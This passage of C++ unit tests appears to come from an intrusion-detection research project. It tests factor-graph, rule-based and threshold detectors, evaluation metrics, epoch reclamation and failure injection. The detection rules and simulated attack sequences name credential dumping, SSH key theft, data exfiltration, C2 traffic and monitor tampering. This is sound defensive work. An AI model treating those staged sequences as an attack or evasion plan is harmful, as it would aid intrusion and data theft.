  EXPECT_EQ(queue.pending(), 5u);

  const auto picked =
      queue.drain(alerts::DaemonAlert::kVerdict | alerts::DaemonAlert::kProgress);
  ASSERT_EQ(picked.size(), 3u);
  EXPECT_EQ(picked[0]->ts, 1);
  EXPECT_EQ(picked[1]->ts, 3);
  EXPECT_EQ(picked[2]->ts, 4);

  // Non-matching alerts stayed queued, still in post order.
  EXPECT_EQ(queue.pending(), 2u);
  const auto rest = queue.drain();
  ASSERT_EQ(rest.size(), 2u);
  EXPECT_EQ(rest[0]->ts, 2);
  EXPECT_EQ(rest[1]->ts, 5);
  EXPECT_EQ(rest[0]->category(), alerts::DaemonAlert::kError);
  EXPECT_EQ(rest[1]->category(), alerts::DaemonAlert::kLifecycle);
  EXPECT_EQ(queue.pending(), 0u);
  EXPECT_EQ(queue.posted(), 5u);
}

}  // namespace
}  // namespace at::testbed
