// Detector framework: each detector's firing semantics, the evaluation
// harness, and the paper's comparative claims (FG preempts where the
// critical-alert baseline is too late; single-alert thresholds drown).

#include <gtest/gtest.h>

#include "detect/eval.hpp"

namespace at::detect {
namespace {

using alerts::Alert;
using alerts::AlertType;

Alert make_alert(util::SimTime ts, AlertType type) {
  Alert alert;
  alert.ts = ts;
  alert.type = type;
  alert.host = "h";
  return alert;
}

std::optional<Detection> feed(Detector& detector, const std::vector<AlertType>& types) {
  detector.reset();
  for (std::size_t i = 0; i < types.size(); ++i) {
    if (auto hit = detector.observe(make_alert(static_cast<util::SimTime>(i * 10), types[i]), i)) {
      return hit;
    }
  }
  return std::nullopt;
}

const incidents::Corpus& corpus() {
  static const incidents::Corpus c = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return incidents::CorpusGenerator(config).generate();
  }();
  return c;
}

TEST(CriticalAlertDetectorTest, FiresOnlyOnCritical) {
  CriticalAlertDetector detector;
  EXPECT_FALSE(feed(detector, {AlertType::kPortScan, AlertType::kDownloadSensitive,
                               AlertType::kLogTampering}));
  const auto hit = feed(detector, {AlertType::kPortScan, AlertType::kPrivilegeEscalation});
  ASSERT_TRUE(hit.has_value());
  EXPECT_EQ(hit->alert_index, 1u);
}

TEST(CriticalAlertDetectorTest, FiresOnce) {
  CriticalAlertDetector detector;
  detector.reset();
  EXPECT_TRUE(detector.observe(make_alert(0, AlertType::kPrivilegeEscalation), 0));
  EXPECT_FALSE(detector.observe(make_alert(1, AlertType::kCredentialDump), 1));
}

TEST(ThresholdDetectorTest, SeverityFloor) {
  ThresholdDetector warn(alerts::Severity::kWarning);
  EXPECT_FALSE(feed(warn, {AlertType::kLoginSuccess, AlertType::kPortScan}));
  EXPECT_TRUE(feed(warn, {AlertType::kSshBruteforce}));  // warning severity
  ThresholdDetector high(alerts::Severity::kHigh);
  EXPECT_FALSE(feed(high, {AlertType::kSshBruteforce}));
  EXPECT_TRUE(feed(high, {AlertType::kRemoteCodeExec}));
}

TEST(RuleBasedDetectorTest, MatchesSubsequenceThroughNoise) {
  RuleBasedDetector detector({{"sig", {AlertType::kDownloadSensitive,
                                       AlertType::kCompileSource,
                                       AlertType::kLogTampering}}});
  const auto hit =
      feed(detector, {AlertType::kPortScan, AlertType::kDownloadSensitive,
                      AlertType::kLoginSuccess, AlertType::kCompileSource,
                      AlertType::kSshBruteforce, AlertType::kLogTampering});
  ASSERT_TRUE(hit.has_value());
  EXPECT_EQ(hit->alert_index, 5u);  // fires at the completing alert
  EXPECT_NE(hit->reason.find("sig"), std::string::npos);
}

TEST(RuleBasedDetectorTest, NoMatchOnWrongOrder) {
  RuleBasedDetector detector({{"sig", {AlertType::kCompileSource,
                                       AlertType::kDownloadSensitive}}});
  EXPECT_FALSE(feed(detector, {AlertType::kDownloadSensitive, AlertType::kCompileSource}));
}

TEST(RuleBasedDetectorTest, ResetClearsProgress) {
  RuleBasedDetector detector({{"sig", {AlertType::kDownloadSensitive,
                                       AlertType::kCompileSource}}});
  detector.reset();
  detector.observe(make_alert(0, AlertType::kDownloadSensitive), 0);
  detector.reset();
  EXPECT_FALSE(detector.observe(make_alert(1, AlertType::kCompileSource), 1));
}

TEST(RuleBasedDetectorTest, TrainExtractsPreDamagePrefixes) {
  const auto detector = RuleBasedDetector::train(corpus().incidents, 4, 2);
  EXPECT_GT(detector.signature_count(), 10u);
  // Signatures are capped at 43 distinct cores (some prefixes coincide).
  EXPECT_LE(detector.signature_count(), 43u);
}

TEST(FactorGraphDetectorTest, FiresOnAttackNotOnBenign) {
  auto detector = FactorGraphDetector::train(corpus(), 0.75);
  const auto hit = feed(detector, {AlertType::kDownloadSensitive, AlertType::kCompileSource,
                                   AlertType::kLogTampering});
  ASSERT_TRUE(hit.has_value());
  EXPECT_GE(hit->score, 0.75);
  EXPECT_FALSE(feed(detector, {AlertType::kLoginSuccess, AlertType::kJobSubmitted,
                               AlertType::kJobCompleted, AlertType::kLogout}));
}

TEST(FactorGraphDetectorTest, ThresholdControlsSensitivity) {
  auto eager = FactorGraphDetector::train(corpus(), 0.30);
  auto strict = FactorGraphDetector::train(corpus(), 0.97);
  const std::vector<AlertType> attack = {AlertType::kDbPortProbe,
                                         AlertType::kDefaultPasswordLogin,
                                         AlertType::kDbPayloadEncoding,
                                         AlertType::kDbFileExport};
  const auto eager_hit = feed(eager, attack);
  const auto strict_hit = feed(strict, attack);
  ASSERT_TRUE(eager_hit.has_value());
  if (strict_hit) {
    EXPECT_LE(eager_hit->alert_index, strict_hit->alert_index);
  }
}

// --- evaluation harness ---

struct EvalFixture : public ::testing::Test {
  void SetUp() override {
    split = split_corpus(corpus());
    for (const auto& incident : split.test) {
      attacks.push_back(attack_stream(incident));
    }
    incidents::DailyNoiseModel noise;
    benign = benign_streams(noise, 0, 10, 300);
  }
  Split split;
  std::vector<Stream> attacks;
  std::vector<Stream> benign;
};

TEST_F(EvalFixture, SplitIsDisjointAndComplete) {
  EXPECT_EQ(split.train.incidents.size() + split.test.size(), 228u);
  for (const auto& incident : split.train.incidents) EXPECT_EQ(incident.id % 2, 0u);
  for (const auto& incident : split.test) EXPECT_EQ(incident.id % 2, 1u);
}

TEST_F(EvalFixture, AttackStreamCarriesDamageIndex) {
  for (std::size_t i = 0; i < attacks.size(); ++i) {
    const auto& stream = attacks[i];
    EXPECT_TRUE(stream.is_attack);
    EXPECT_FALSE(stream.alerts.empty());
    if (stream.damage_index) {
      EXPECT_TRUE(stream.alerts[*stream.damage_index].critical());
      ASSERT_TRUE(stream.damage_ts.has_value());
      EXPECT_EQ(stream.alerts[*stream.damage_index].ts, *stream.damage_ts);
    }
  }
}

TEST_F(EvalFixture, FactorGraphPreemptsEverythingItDetects) {
  auto detector = FactorGraphDetector::train(split.train, 0.75);
  const auto result = evaluate(detector, attacks, benign);
  EXPECT_GT(result.recall(), 0.9);
  EXPECT_GT(result.precision(), 0.9);
  // The headline property: detections come *before* the damage instant.
  EXPECT_GT(result.preemption_rate(), 0.9);
  EXPECT_GT(result.lead_seconds.mean(), 0.0);
}

TEST_F(EvalFixture, CriticalBaselineNeverPreempts) {
  // Insight 4: firing on critical alerts is always too late.
  CriticalAlertDetector detector;
  const auto result = evaluate(detector, attacks, benign);
  EXPECT_EQ(result.preempted, 0u);
  EXPECT_EQ(result.false_positives, 0u);
  // It also misses every attack without a recorded critical alert.
  EXPECT_LT(result.recall(), 0.6);
}

TEST_F(EvalFixture, ThresholdBaselineDrownsInNoise) {
  // Remark 2: single-alert decisions have a high false-positive rate.
  ThresholdDetector detector(alerts::Severity::kWarning);
  const auto result = evaluate(detector, attacks, benign);
  EXPECT_EQ(result.false_positives, benign.size());  // pages on every day
}

TEST_F(EvalFixture, FgOutleadsRules) {
  auto fg = FactorGraphDetector::train(split.train, 0.75);
  auto rules = RuleBasedDetector::train(split.train.incidents);
  const auto fg_result = evaluate(fg, attacks, benign);
  const auto rule_result = evaluate(rules, attacks, benign);
  EXPECT_GE(fg_result.preemption_rate(), rule_result.preemption_rate() - 0.05);
  EXPECT_GE(fg_result.precision(), rule_result.precision());
}

TEST_F(EvalFixture, RecallAtPrefixMatchesInsight2) {
  // Insight 2: a preemption model must already work at 2-4 observed
  // alerts. Recall grows with the prefix and is substantial by 4.
  auto detector = FactorGraphDetector::train(split.train, 0.75);
  const double r1 = recall_at_prefix(detector, attacks, 1);
  const double r4 = recall_at_prefix(detector, attacks, 4);
  const double r16 = recall_at_prefix(detector, attacks, 16);
  EXPECT_LE(r1, r4);
  EXPECT_LE(r4, r16 + 1e-9);
  EXPECT_GT(r4, 0.3);
}

TEST(EvalResultTest, MetricArithmetic) {
  EvalResult result;
  result.true_positives = 8;
  result.false_negatives = 2;
  result.false_positives = 2;
  result.damage_streams = 5;
  result.preempted = 4;
  EXPECT_DOUBLE_EQ(result.precision(), 0.8);
  EXPECT_DOUBLE_EQ(result.recall(), 0.8);
  EXPECT_DOUBLE_EQ(result.preemption_rate(), 0.8);
  EXPECT_NEAR(result.f1(), 0.8, 1e-12);
  EvalResult empty;
  EXPECT_EQ(empty.precision(), 0.0);
  EXPECT_EQ(empty.recall(), 0.0);
  EXPECT_EQ(empty.f1(), 0.0);
}

}  // namespace
}  // namespace at::detect
