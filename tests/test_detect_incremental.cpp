// Detector-level determinism oracle for the incremental factor-graph
// inference modes: FactorGraphDetector must emit an IDENTICAL verdict
// stream (which sessions fire, at which alert index) whether it re-infers
// the entity model from scratch per alert (kEntityFull) or re-propagates
// cached messages along stale edges only (kEntityIncremental), over
// randomized multi-entity traces fed through the SessionPipeline. Same
// discipline as test_sim_oracle.cpp: two implementations, one stream,
// byte-comparable outcomes.

#include <gtest/gtest.h>

#include <memory>
#include <vector>

#include "detect/detector.hpp"
#include "detect/session_pipeline.hpp"
#include "fg/model.hpp"
#include "incidents/generator.hpp"
#include "util/rng.hpp"

namespace at::detect {
namespace {

using alerts::Alert;
using alerts::AlertType;

std::shared_ptr<const fg::CompiledParams> compiled() {
  static const std::shared_ptr<const fg::CompiledParams> c = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return fg::compile_params(
        fg::learn_params(incidents::CorpusGenerator(config).generate()));
  }();
  return c;
}

/// Randomized multi-entity trace: `accounts` users interleaved, alert types
/// drawn with a bias toward attack content so thresholds actually trip.
std::vector<Alert> random_trace(util::Rng& rng, std::size_t accounts,
                                std::size_t length) {
  std::vector<Alert> trace;
  trace.reserve(length);
  for (std::size_t i = 0; i < length; ++i) {
    Alert alert;
    alert.ts = static_cast<util::SimTime>(i * 60);
    alert.user = "user-" + std::to_string(rng.uniform_int(
                     0, static_cast<std::int64_t>(accounts) - 1));
    alert.host = "host-" + std::to_string(rng.uniform_int(0, 3));
    alert.type = static_cast<AlertType>(
        rng.uniform_int(0, static_cast<std::int64_t>(alerts::kNumAlertTypes) - 1));
    trace.push_back(std::move(alert));
  }
  return trace;
}

SessionPipeline::Factory factory_for(FgInference inference, double threshold) {
  return [inference, threshold] {
    return std::make_unique<FactorGraphDetector>(
        compiled(), threshold, alerts::AttackStage::kInProgress, false, inference);
  };
}

class IncrementalVerdictOracle : public ::testing::TestWithParam<int> {};

TEST_P(IncrementalVerdictOracle, FullAndIncrementalAgreeOnEveryVerdict) {
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 7919 + 101);
  const double threshold = 0.75;
  const auto trace = random_trace(rng, /*accounts=*/6, /*length=*/200);

  SessionPipeline full(factory_for(FgInference::kEntityFull, threshold));
  SessionPipeline incremental(factory_for(FgInference::kEntityIncremental, threshold));
  for (const Alert& alert : trace) {
    const auto a = full.on_alert(alert);
    const auto b = incremental.on_alert(alert);
    ASSERT_EQ(a.has_value(), b.has_value()) << "verdict stream diverged";
    if (!a) continue;
    EXPECT_EQ(a->session_id, b->session_id);
    EXPECT_EQ(a->account, b->account);
    EXPECT_EQ(a->detection.alert_index, b->detection.alert_index);
    EXPECT_EQ(a->detection.ts, b->detection.ts);
    // Both engines stop at their (default) message tolerance, so scores
    // carry a few ULPs more slack than the tight fg-level oracle; what must
    // be IDENTICAL is the verdict stream itself, asserted above.
    EXPECT_NEAR(a->detection.score, b->detection.score, 1e-5);
  }
  // The trace is attack-heavy enough that silence would be vacuous.
  EXPECT_FALSE(full.detections().empty());
  EXPECT_EQ(full.detections().size(), incremental.detections().size());
}

INSTANTIATE_TEST_SUITE_P(Seeds, IncrementalVerdictOracle, ::testing::Range(0, 5));

class BatchEquivalence : public ::testing::TestWithParam<int> {};

TEST_P(BatchEquivalence, OnBatchMatchesOnAlertStream) {
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 131071 + 9);
  const double threshold = 0.75;
  const auto trace = random_trace(rng, /*accounts=*/5, /*length=*/160);

  SessionPipeline serial(factory_for(FgInference::kEntityIncremental, threshold));
  SessionPipeline batched(factory_for(FgInference::kEntityIncremental, threshold));
  for (const Alert& alert : trace) serial.on_alert(alert);
  // Feed the same stream in uneven batches.
  std::size_t i = 0;
  while (i < trace.size()) {
    const std::size_t len =
        std::min<std::size_t>(trace.size() - i,
                              1 + static_cast<std::size_t>(rng.uniform_int(0, 40)));
    batched.on_batch(std::span<const Alert>(trace.data() + i, len));
    i += len;
  }

  const auto& a = serial.detections();
  const auto& b = batched.detections();
  ASSERT_EQ(a.size(), b.size());
  for (std::size_t d = 0; d < a.size(); ++d) {
    EXPECT_EQ(a[d].session_id, b[d].session_id);
    EXPECT_EQ(a[d].account, b[d].account);
    EXPECT_EQ(a[d].detection.alert_index, b[d].detection.alert_index);
    EXPECT_EQ(a[d].detection.ts, b[d].detection.ts);
    EXPECT_DOUBLE_EQ(a[d].detection.score, b[d].detection.score);
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, BatchEquivalence, ::testing::Range(0, 5));

TEST(FgInferenceModes, NamesAndResetBehaviour) {
  FactorGraphDetector inc(compiled(), 0.75, alerts::AttackStage::kInProgress, false,
                          FgInference::kEntityIncremental);
  FactorGraphDetector full(compiled(), 0.75, alerts::AttackStage::kInProgress, false,
                           FgInference::kEntityFull);
  FactorGraphDetector filter(compiled(), 0.75);
  EXPECT_EQ(inc.name(), "factor-graph-entity-inc");
  EXPECT_EQ(full.name(), "factor-graph-entity-full");
  EXPECT_EQ(filter.name(), "factor-graph");

  // After reset the incremental engine must forget the history entirely:
  // the same campaign gives the same firing index twice.
  const AlertType campaign[] = {AlertType::kPortScan, AlertType::kSshBruteforce,
                                AlertType::kDownloadSensitive, AlertType::kCompileSource,
                                AlertType::kNewBinaryExecuted, AlertType::kC2Communication,
                                AlertType::kPrivilegeEscalation};
  auto run = [&](FactorGraphDetector& detector) {
    detector.reset();
    std::optional<std::size_t> fired_at;
    for (std::size_t i = 0; i < std::size(campaign); ++i) {
      Alert alert;
      alert.ts = static_cast<util::SimTime>(i);
      alert.type = campaign[i];
      if (const auto d = detector.observe(alert, i); d && !fired_at) {
        fired_at = d->alert_index;
      }
    }
    return fired_at;
  };
  const auto first = run(inc);
  const auto second = run(inc);
  ASSERT_TRUE(first.has_value());
  EXPECT_EQ(*first, *second);
  // And the incremental firing point matches the full re-inference one.
  EXPECT_EQ(run(full), first);
}

}  // namespace
}  // namespace at::detect
