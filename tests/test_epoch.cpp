// Epoch-based reclamation (util::EpochDomain / EpochGuard): retirement
// grace periods, reader pinning, reentrancy, and a multi-threaded
// reader/writer stress run. The stress test is the one the TSan CI stage
// exercises for data-race coverage (tools/ci_check.sh).

#include <gtest/gtest.h>

#include <atomic>
#include <cstdint>
#include <thread>
#include <vector>

#include "util/epoch.hpp"

namespace at {
namespace {

std::atomic<std::uint64_t> g_freed{0};

void counting_deleter(void* ptr) noexcept {
  ++g_freed;
  delete static_cast<std::uint64_t*>(ptr);
}

class EpochTest : public ::testing::Test {
 protected:
  void SetUp() override { g_freed.store(0); }
};

TEST_F(EpochTest, RetireFreesAfterQuiescentAdvances) {
  util::EpochDomain domain;
  domain.retire(new std::uint64_t(1), &counting_deleter);
  EXPECT_EQ(domain.limbo_size(), 1u);
  // No readers: advances succeed and age the entry past the grace period.
  domain.flush();
  EXPECT_EQ(g_freed.load(), 1u);
  EXPECT_EQ(domain.limbo_size(), 0u);
}

TEST_F(EpochTest, PinnedReaderBlocksReclamation) {
  util::EpochDomain domain;
  {
    util::EpochGuard guard(domain);
    domain.retire(new std::uint64_t(2), &counting_deleter);
    // The pinned reader holds the epoch back: nothing may be freed while
    // the guard is live, no matter how often we try.
    domain.flush();
    domain.flush();
    EXPECT_EQ(g_freed.load(), 0u);
    EXPECT_EQ(domain.limbo_size(), 1u);
  }
  domain.flush();
  EXPECT_EQ(g_freed.load(), 1u);
}

TEST_F(EpochTest, NestedGuardsPinOnce) {
  util::EpochDomain domain;
  util::EpochGuard outer(domain);
  {
    util::EpochGuard inner(domain);  // reentrant: same slot, depth bump
    util::EpochGuard inner2(domain);
  }
  // Inner guards released; the outer still pins.
  domain.retire(new std::uint64_t(3), &counting_deleter);
  domain.flush();
  EXPECT_EQ(g_freed.load(), 0u);
}

TEST_F(EpochTest, EpochAdvancesWhenAllReadersCurrent) {
  util::EpochDomain domain;
  const std::uint64_t before = domain.epoch();
  EXPECT_TRUE(domain.try_advance());
  EXPECT_EQ(domain.epoch(), before + 1);
}

TEST_F(EpochTest, DomainDestructionDrainsLimbo) {
  {
    util::EpochDomain domain;
    domain.retire(new std::uint64_t(4), &counting_deleter);
    domain.retire(new std::uint64_t(5), &counting_deleter);
    // Not flushed: the destructor must free the limbo remainder.
  }
  EXPECT_EQ(g_freed.load(), 2u);
}

TEST_F(EpochTest, ManyRetirementsAllFreedEventually) {
  util::EpochDomain domain;
  constexpr int kBatches = 64;
  for (int b = 0; b < kBatches; ++b) {
    for (int i = 0; i < 16; ++i) domain.retire(new std::uint64_t(0), &counting_deleter);
    {
      util::EpochGuard guard(domain);  // interleave reader activity
    }
  }
  domain.flush();
  EXPECT_EQ(g_freed.load(), kBatches * 16u);
}

// The COW-publish pattern the LpmTrie uses, reduced to one atomic pointer:
// readers pin, load-acquire, and deref; the writer swaps in a new value and
// retires the old one. Run under TSan this is the race detector for the
// whole reclamation scheme.
TEST_F(EpochTest, ReaderWriterStress) {
  util::EpochDomain domain;
  std::atomic<std::uint64_t*> current{new std::uint64_t(0)};
  std::atomic<bool> stop{false};
  constexpr int kReaders = 4;
  constexpr int kSwaps = 2000;

  std::vector<std::thread> readers;
  readers.reserve(kReaders);
  std::atomic<std::uint64_t> observed_max{0};
  for (int r = 0; r < kReaders; ++r) {
    readers.emplace_back([&] {
      while (!stop.load(std::memory_order_acquire)) {
        util::EpochGuard guard(domain);
        const std::uint64_t* ptr = current.load(std::memory_order_acquire);
        const std::uint64_t value = *ptr;  // must never be freed memory
        std::uint64_t seen = observed_max.load(std::memory_order_relaxed);
        while (value > seen &&
               !observed_max.compare_exchange_weak(seen, value,
                                                   std::memory_order_relaxed)) {
        }
      }
    });
  }

  for (std::uint64_t swap = 1; swap <= kSwaps; ++swap) {
    auto* next = new std::uint64_t(swap);
    std::uint64_t* old = current.exchange(next, std::memory_order_acq_rel);
    domain.retire(old, &counting_deleter);
  }
  stop.store(true, std::memory_order_release);
  for (auto& t : readers) t.join();

  domain.flush();
  EXPECT_EQ(g_freed.load(), kSwaps);
  EXPECT_LE(observed_max.load(), kSwaps);
  delete current.load();
}

}  // namespace
}  // namespace at
