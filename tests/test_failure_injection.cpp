// Failure injection beyond monitor tampering: out-of-order alert
// delivery, duplicated alerts, degenerate training corpora, hostile log
// input, and empty-world edge cases. The pipeline must degrade, never
// crash or page spuriously.

#include <gtest/gtest.h>

#include "alerts/zeeklog.hpp"
#include "detect/eval.hpp"
#include "replay/ransomware.hpp"

namespace at {
namespace {

using alerts::Alert;
using alerts::AlertType;

const incidents::Corpus& corpus() {
  static const incidents::Corpus c = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return incidents::CorpusGenerator(config).generate();
  }();
  return c;
}

TEST(FailureInjection, OutOfOrderDeliveryStillDetects) {
  // Network reordering: the motif's alerts arrive with timestamps out of
  // order. The forward filter consumes arrival order; detection still
  // happens (the paper's monitors deliver near-real-time, but the
  // pipeline must not depend on perfect ordering to fire at all).
  auto detector = detect::FactorGraphDetector::train(corpus(), 0.75);
  detector.reset();
  const AlertType shuffled[] = {AlertType::kCompileSource, AlertType::kDownloadSensitive,
                                AlertType::kLogTampering};
  const util::SimTime times[] = {200, 100, 300};  // ts not monotone
  std::optional<detect::Detection> hit;
  for (std::size_t i = 0; i < 3 && !hit; ++i) {
    Alert alert;
    alert.ts = times[i];
    alert.type = shuffled[i];
    alert.host = "h";
    hit = detector.observe(alert, i);
  }
  EXPECT_TRUE(hit.has_value());
}

TEST(FailureInjection, DuplicatedAlertsDoNotInflateConfidenceForever) {
  // A stuck monitor re-emitting the same suspicious alert must not walk
  // the posterior into the firing region.
  auto detector = detect::FactorGraphDetector::train(corpus(), 0.75);
  detector.reset();
  Alert alert;
  alert.type = AlertType::kSshBruteforce;
  alert.host = "h";
  for (std::size_t i = 0; i < 500; ++i) {
    alert.ts = static_cast<util::SimTime>(i);
    EXPECT_FALSE(detector.observe(alert, i).has_value()) << "fired at duplicate " << i;
  }
}

TEST(FailureInjection, DroppedAlertsDegradeGracefully) {
  // Drop every other alert from attack streams: recall may fall, but
  // whatever is detected must still be a true positive (precision holds).
  const auto split = detect::split_corpus(corpus());
  auto detector = detect::FactorGraphDetector::train(split.train, 0.75);
  std::vector<detect::Stream> attacks;
  for (const auto& incident : split.test) {
    auto stream = detect::attack_stream(incident);
    detect::Stream dropped;
    dropped.is_attack = true;
    dropped.damage_ts = stream.damage_ts;
    for (std::size_t i = 0; i < stream.alerts.size(); i += 2) {
      dropped.alerts.push_back(stream.alerts[i]);
    }
    attacks.push_back(std::move(dropped));
  }
  incidents::DailyNoiseModel noise;
  const auto benign = detect::benign_streams(noise, 0, 10, 300);
  const auto result = detect::evaluate(detector, attacks, benign);
  EXPECT_EQ(result.false_positives, 0u);
  EXPECT_GT(result.recall(), 0.5);  // half the evidence still catches most
}

TEST(FailureInjection, DegenerateEmptyTrainingCorpus) {
  // Training on an empty corpus yields the uniform (Laplace-only) model;
  // the detector must not crash and must not fire on benign traffic.
  incidents::Corpus empty;
  auto detector = detect::FactorGraphDetector::train(empty, 0.75);
  detector.reset();
  Alert alert;
  alert.type = AlertType::kLoginSuccess;
  alert.host = "h";
  for (std::size_t i = 0; i < 20; ++i) {
    alert.ts = static_cast<util::SimTime>(i);
    EXPECT_FALSE(detector.observe(alert, i).has_value());
  }
}

TEST(FailureInjection, SingleIncidentTrainingCorpus) {
  incidents::Corpus tiny;
  tiny.incidents.push_back(corpus().incidents[0]);
  const auto params = fg::learn_params(tiny);
  fg::ForwardFilter filter(params);
  filter.observe(AlertType::kDownloadSensitive);
  double total = 0.0;
  for (const auto p : filter.posterior()) total += p;
  EXPECT_NEAR(total, 1.0, 1e-9);
}

TEST(FailureInjection, HostileNoticeLogInput) {
  // Parser fuzz-ish: binary garbage, oversized fields, half-lines.
  std::string hostile;
  hostile += std::string(1024, '\xff') + "\n";
  hostile += "1\talert_port_scan\t" + std::string(100'000, 'a') + "\t-\t-\tzeek\t-\n";
  hostile += "2\talert_port_scan\t-\t-\t-\tzeek\tk=v|k2\n";  // bad metadata pair
  hostile += "99999999999999999999999999\talert_port_scan\t-\t-\t-\tzeek\t-\n";  // ts overflow
  const auto result = alerts::read_notice_log(hostile);
  // The huge-host line is structurally valid; everything else is rejected.
  EXPECT_EQ(result.alerts.size(), 1u);
  EXPECT_EQ(result.malformed, 3u);
}

TEST(FailureInjection, PipelineSurvivesAlertStorm) {
  // A burst of one million identical scan alerts: the filter suppresses,
  // memory stays bounded (one entity), no pages.
  bhr::BlackHoleRouter router;
  testbed::PipelineConfig config;
  testbed::AlertPipeline pipeline(config, &router);
  pipeline.add_detector("critical", [] {
    return std::make_unique<detect::CriticalAlertDetector>();
  });
  Alert probe;
  probe.type = AlertType::kPortScan;
  probe.src = net::Ipv4(9, 9, 9, 9);
  probe.host = "h";
  for (std::size_t i = 0; i < 1'000'000; ++i) {
    probe.ts = static_cast<util::SimTime>(i / 1000);  // 1000 alerts/s
    pipeline.on_alert(probe);
  }
  EXPECT_EQ(pipeline.tracked_entities(), 1u);
  EXPECT_TRUE(pipeline.notifications().empty());
  // The filter absorbed almost everything.
  EXPECT_LT(pipeline.alerts_after_filter(), 10u);
}

TEST(FailureInjection, AllMonitorsTamperedOnEntryHostDelaysButLateralHostsCatch) {
  // Worst case on patient zero: every monitor silenced there. Lateral
  // movement to *untampered* hosts still produces the evidence — the
  // paper's "challenging to manipulate all monitors" argument.
  testbed::Testbed bed(testbed::TestbedConfig{}, corpus());
  bed.deploy(0);
  bed.osquery().tamper("pg-0");
  bed.auditd().tamper("pg-0");
  // (Zeek is a network monitor; per-host tampering of it means the host's
  //  label, which inbound flow alerts carry.)
  bed.zeek().tamper("pg-0");

  replay::RansomwareScenario ransomware;
  std::vector<replay::Scenario*> scenarios{&ransomware};
  replay::run_scenarios(bed, scenarios, 0);
  bool paged_on_lateral_host = false;
  for (const auto& note : bed.pipeline().notifications()) {
    if (note.entity != "host:pg-0") paged_on_lateral_host = true;
  }
  EXPECT_TRUE(paged_on_lateral_host);
}

}  // namespace
}  // namespace at
