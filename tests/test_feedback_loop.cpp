// The paper's conclusion feedback loop: lateral-movement alerts added to
// Zeek policies after the case study, and rule signatures refined from a
// preempted attack's own alerts.

#include <gtest/gtest.h>

#include "detect/refinery.hpp"
#include "replay/ransomware.hpp"

namespace at {
namespace {

using alerts::Alert;
using alerts::AlertType;

const incidents::Corpus& training() {
  static const incidents::Corpus corpus = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return incidents::CorpusGenerator(config).generate();
  }();
  return corpus;
}

TEST(LateralMovementPolicy, InternalSshRaisesNoticeOnlyWhenEnabled) {
  alerts::BufferSink sink;
  monitors::ZeekConfig config;
  monitors::ZeekMonitor zeek(sink, config);  // pre-incident ruleset
  net::Flow hop;
  hop.ts = 10;
  hop.src = net::Ipv4(141, 142, 250, 1);
  hop.dst = net::Ipv4(141, 142, 250, 2);
  hop.dst_port = net::ports::kSsh;
  hop.state = net::ConnState::kEstablished;
  zeek.on_flow(hop);
  EXPECT_TRUE(sink.alerts().empty());

  zeek.enable_lateral_movement_policy();
  hop.ts = 20;
  zeek.on_flow(hop);
  ASSERT_EQ(sink.alerts().size(), 1u);
  EXPECT_EQ(sink.alerts()[0].type, AlertType::kSshLateralMove);
  EXPECT_NE(sink.alerts()[0].find_meta("from"), nullptr);
}

TEST(LateralMovementPolicy, IgnoresSelfAndFailedAndNonSsh) {
  alerts::BufferSink sink;
  monitors::ZeekConfig config;
  config.lateral_movement_policy = true;
  monitors::ZeekMonitor zeek(sink, config);
  net::Flow hop;
  hop.src = net::Ipv4(141, 142, 250, 1);
  hop.dst = hop.src;  // self
  hop.dst_port = net::ports::kSsh;
  hop.state = net::ConnState::kEstablished;
  zeek.on_flow(hop);
  hop.dst = net::Ipv4(141, 142, 250, 2);
  hop.state = net::ConnState::kRejected;  // failed
  zeek.on_flow(hop);
  hop.state = net::ConnState::kEstablished;
  hop.dst_port = 443;  // not ssh
  zeek.on_flow(hop);
  EXPECT_TRUE(sink.alerts().empty());
}

TEST(LateralMovementPolicy, RansomwareReplayYieldsNetworkLevelLateralAlerts) {
  // With the post-incident ruleset the worm's SSH hops are visible at the
  // network level, independent of host monitors.
  testbed::TestbedConfig config;
  config.zeek.lateral_movement_policy = true;
  testbed::Testbed bed(config, training());
  bed.deploy(0);
  // Silence host monitors fleet-wide: only Zeek evidence remains.
  for (const auto& instance : bed.vms().instances()) {
    bed.osquery().tamper(instance.hostname);
    bed.auditd().tamper(instance.hostname);
  }
  replay::RansomwareScenario ransomware;
  std::vector<replay::Scenario*> scenarios{&ransomware};
  replay::run_scenarios(bed, scenarios, 0);
  // The lateral hops crossed the wire and were noticed.
  std::size_t lateral = 0;
  for (const auto& note : bed.pipeline().notifications()) {
    (void)note;
  }
  EXPECT_GT(bed.zeek().emitted(), 0u);
  // Count lateral notices via a fresh run through a buffer is indirect;
  // instead assert detection still happened with host monitors dark.
  EXPECT_TRUE(replay::first_notification_after(bed, 0).has_value());
  (void)lateral;
}

TEST(Refinery, DerivesPreDamageSignature) {
  std::vector<Alert> observed;
  const AlertType sequence[] = {
      AlertType::kDbPortProbe, AlertType::kDbPortProbe,  // repeated probing
      AlertType::kDefaultPasswordLogin, AlertType::kLoginSuccess,  // benign-typed
      AlertType::kDbPayloadEncoding, AlertType::kDbFileExport,
      AlertType::kDataExfiltrationBulk,  // critical: must be excluded
      AlertType::kSshKeyTheft};
  util::SimTime t = 0;
  for (const auto type : sequence) {
    Alert alert;
    alert.ts = t += 10;
    alert.type = type;
    observed.push_back(alert);
  }
  const auto signature = detect::derive_signature(observed, "pg-family");
  ASSERT_TRUE(signature.has_value());
  EXPECT_EQ(signature->name, "pg-family");
  EXPECT_EQ(signature->alerts,
            (std::vector<AlertType>{AlertType::kDbPortProbe, AlertType::kDefaultPasswordLogin,
                                    AlertType::kDbPayloadEncoding, AlertType::kDbFileExport}));
}

TEST(Refinery, RejectsTooShort) {
  std::vector<Alert> observed(1);
  observed[0].type = AlertType::kPortScan;
  EXPECT_FALSE(detect::derive_signature(observed, "x").has_value());
  EXPECT_FALSE(detect::derive_signature({}, "x").has_value());
}

TEST(Refinery, RefinedRulesCatchTheNextVariant) {
  // End to end: detect the first wave, refine a signature from its
  // observed alerts, and confirm a naive ruleset that previously missed
  // the family now fires on a variant replay.
  const AlertType variant[] = {AlertType::kDbPortProbe, AlertType::kDefaultPasswordLogin,
                               AlertType::kVersionRecon, AlertType::kDbPayloadEncoding,
                               AlertType::kDbFileExport, AlertType::kC2Communication};
  auto make_stream = [&] {
